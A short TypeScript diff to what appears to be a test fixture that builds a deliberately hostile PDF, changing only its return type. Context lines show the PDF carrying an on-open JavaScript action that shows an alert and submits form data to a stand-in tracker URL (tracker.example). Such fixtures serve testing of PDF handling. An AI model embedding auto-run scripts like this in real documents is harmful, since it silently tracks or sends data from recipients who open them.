@@ -11,7 +11,7 @@ export const pdfName = "Zoë Ångström";
 export const pdfSecondPage = "References on request: Lund University, 2019.";
 export const pdfTrackerUrl = "https://tracker.example/opened";
 
-export async function hostilePdf(): Promise<Buffer> {
+export async function hostilePdf(): Promise<Uint8Array> {
   const doc = await PDFDocument.create();
   const font = await doc.embedFont(StandardFonts.Helvetica);
   const bold = await doc.embedFont(StandardFonts.HelveticaBold);
@@ -68,5 +68,5 @@ export async function hostilePdf(): Promise<Buffer> {
   const script = `app.alert("opened"); this.submitForm("${pdfTrackerUrl}");`;
   doc.catalog.set(PDFName.of("OpenAction"), context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(script) }));
   doc.addJavaScript("onOpen", script);
-  return Buffer.from(await doc.save());
+  return doc.save();
 }
